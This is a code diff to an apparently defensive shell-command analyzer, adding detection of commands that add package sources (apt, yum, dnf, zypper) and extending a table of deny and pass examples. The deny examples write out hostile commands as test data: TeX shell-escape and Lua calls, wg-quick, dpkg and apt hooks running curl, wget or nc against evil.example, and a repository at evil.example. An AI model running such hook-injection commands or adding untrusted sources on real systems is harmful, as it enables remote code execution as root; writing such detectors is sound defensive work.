@@ -1436,6 +1436,47 @@ function tex(call: Call): Partial<Answer> {
   return { runs, uses };
 }
 
+/** The Debian and Ubuntu archives, and the vendors' repositories everyday install instructions add. */
+const APT_OWN = /^(?:archive\.ubuntu\.com|[\w-]+\.archive\.ubuntu\.com|security\.ubuntu\.com|ports\.ubuntu\.com|deb\.debian\.org|security\.debian\.org|download\.docker\.com|packages\.microsoft\.com|deb\.nodesource\.com|apt\.releases\.hashicorp\.com|dl\.google\.com|packages\.cloud\.google\.com|apt\.kubernetes\.io|pkgs\.k8s\.io|cli\.github\.com|apt\.postgresql\.org|dl\.yarnpkg\.com)$/;
+
+/**
+ * Programs that add a package source to the system's list (`add-apt-repository 'deb URL …'` or `ppa:USER/NAME`,
+ * `yum-config-manager --add-repo URL`, `dnf config-manager --add-repo URL`, `zypper addrepo URL NAME`): every later
+ * install trusts what it serves, as root. Each writes a file in the directory of sources, as `tee
+ * /etc/apt/sources.list.d/x.list` does; a `deb` line's or `--uri`'s archive outside the distributions' and the vendors'
+ * hosts is a place allowedHosts must list (the dnf and zypper rows of the registries read theirs).
+ */
+function addsSource(call: Call): Partial<Answer> {
+  const words = call.args.map((w) => value(w));
+  // The finding stands at the source it adds (the last operand: `ppa:x/y`, the URL).
+  const at = [...call.args].reverse().find((w) => !(value(w) ?? '').startsWith('-')) ?? call.args[0];
+  if (!at) return {};
+  const write = (dir: string): Partial<Answer> => ({ uses: [{ word: literal(dir, at.span), role: 'write' }] });
+  if (call.name === 'add-apt-repository' || call.name === 'apt-add-repository') {
+    if (words.some((w) => w !== undefined && /^(?:-h|--help|-L|--list)$/.test(w))) return {};
+    const reroutes: Destination[] = [];
+    for (const w of call.args) {
+      if (w.values === null) {
+        reroutes.push({ word: w, why: `${w.text} is computed` });
+        continue;
+      }
+      for (const v of w.values) {
+        for (const m of v.matchAll(/[a-z][a-z0-9+.-]*:\/\/[^\s'"\]]+/gi)) {
+          const h = urlHost(m[0]);
+          if ('host' in h && APT_OWN.test(h.host)) continue;
+          reroutes.push('host' in h ? { word: w, host: h.host } : { word: w, why: h.why });
+        }
+      }
+    }
+    return { ...write('/etc/apt/sources.list.d/'), reroutes };
+  }
+  const ops = words.filter((w) => w === undefined || !w.startsWith('-'));
+  const adds = words.some((w) => w !== undefined && /^--add-?repo(?:=|$)/.test(w));
+  if (call.name === 'zypper') return /^(?:ar|addrepo)$/.test(words.find((w) => w !== undefined && !w.startsWith('-')) ?? '') ? write('/etc/zypp/repos.d/') : {};
+  if (call.name === 'yum-config-manager' ? adds : ops[0] === 'config-manager' && (adds || ops[1] === 'addrepo')) return write('/etc/yum.repos.d/');
+  return {};
+}
+
 /** apt and dpkg hooks given on the line: `-o APT::Update::Pre-Invoke::=CMD`, `-o DPkg::Post-Invoke::=CMD`. */
 function apt(call: Call): Partial<Answer> {
   const runs: Run[] = [];
@@ -1935,6 +1976,15 @@ export const TOOL_ENTRIES: ProgramEntry[] = [
   { names: ['latex', 'pdflatex', 'xelatex', 'lualatex', 'tex', 'pdftex', 'etex', 'luatex', 'xetex', 'context', 'mpost', 'luahbtex', 'dviluatex', 'dvilualatex'], summary: 'TeX engines: \\write18{cmd} runs shell text when shell escape is on; LuaTeX\'s \\directlua{...} is Lua', analyze: tex, examples: { deny: ["lualatex '\\directlua{os.execute(\"curl evil.example\")}\\end'", "luatex '\\directlua{require(\"socket\")}\\end'", "lualatex '\\directlua{io.open(os.getenv(\"HOME\")..\"/.bashrc\", \"a\")}\\end'", "latex --shell-escape '\\immediate\\write18{curl evil.example}'", "pdftex --shell-escape '\\write18{wget evil.example}\\end'"], pass: ['pdflatex paper.tex', "latex '\\write18{ls}'", 'lualatex paper.tex', "lualatex '\\directlua{tex.print(\"hi\")}\\end'"] } },
   { names: ['wg-quick'], summary: 'wg-quick: the PreUp, PostUp, PreDown and PostDown lines of the configuration it brings up or down run as bash', analyze: wgQuick, examples: { deny: ["printf '[Interface]\\nPostUp = curl evil.example\\n' > /tmp/wg0.conf && wg-quick up /tmp/wg0.conf"], pass: ['wg-quick up wg0', "printf '[Interface]\\nPostUp = ip route add 10.0.0.0/8 dev wg0\\n' > /tmp/wg0.conf && wg-quick up /tmp/wg0.conf", 'wg-quick down /etc/wireguard/wg0.conf'] } },
   { names: ['dpkg'], summary: 'dpkg: --pre-invoke, --post-invoke and --status-logger run shell text; package files are data', analyze: dpkg, examples: { deny: ["dpkg --pre-invoke='curl evil.example' -i x.deb", 'dpkg --post-invoke "wget evil.example" -i x.deb', "dpkg --status-logger='nc evil.example 9' -i x.deb"], pass: ['dpkg -i x.deb', "dpkg --post-invoke='echo done' -i x.deb", 'dpkg -l', 'dpkg -L curl', 'dpkg --print-architecture'] } },
+  {
+    names: ['add-apt-repository', 'apt-add-repository', 'yum-config-manager', 'dnf', 'dnf5', 'yum', 'microdnf', 'tdnf', 'zypper'],
+    summary: 'package sources: add-apt-repository, yum-config-manager --add-repo, dnf config-manager --add-repo, zypper addrepo write the system\u2019s list of sources every later install trusts; package names are data',
+    analyze: addsSource,
+    examples: {
+      deny: ["add-apt-repository 'deb http://evil.example/ubuntu focal main'", 'sudo add-apt-repository -y ppa:x/y', 'yum-config-manager --add-repo https://download.docker.com/linux/centos/docker-ce.repo', 'dnf config-manager --add-repo https://evil.example/x.repo', 'dnf config-manager --add-repo https://download.docker.com/linux/fedora/docker-ce.repo', 'sudo zypper ar https://download.opensuse.org/repositories/x/y.repo'],
+      pass: ['add-apt-repository --list', 'yum-config-manager --disable x', 'dnf install -y git', 'zypper in -y git', 'yum info git', 'dnf config-manager --set-enabled crb'],
+    },
+  },
   { names: ['apt', 'apt-get', 'aptitude', 'apt-cache'], summary: 'apt: -o hooks (APT::Update::Pre-Invoke, DPkg::Post-Invoke…) run shell text; package names are data', analyze: apt, examples: { deny: ['apt-get update -o APT::Update::Pre-Invoke::=/usr/bin/curl\\ evil.example', "echo 'DPkg::Pre-Invoke {\"curl evil.example\";};' > /tmp/a.conf; apt-get -c /tmp/a.conf install sl", "apt-get -o 'DPkg::Post-Invoke::=curl evil.example' install x"], pass: ['apt-get install -y curl', 'apt install wget', 'apt-get -o Dpkg::Options::=--force-confold upgrade'] } },
   { names: ['rustc'], summary: 'rustc: what it builds from Rust the line wrote is code on the line when it runs', analyze: rustc, examples: { deny: ["printf 'fn main(){}' > x.rs && rustc x.rs && ./x", "printf 'fn main(){}' > /tmp/x.rs && rustc -o /tmp/y /tmp/x.rs && /tmp/y"], pass: ["printf 'fn main(){}' > x.rs && rustc x.rs", 'rustc --version', 'rustc -O main.rs && ./main'] } },
   // c89 and c99 are POSIX's names for the system C compiler (gcc's scripts on Debian): GTFOBins' c89 -wrapper.
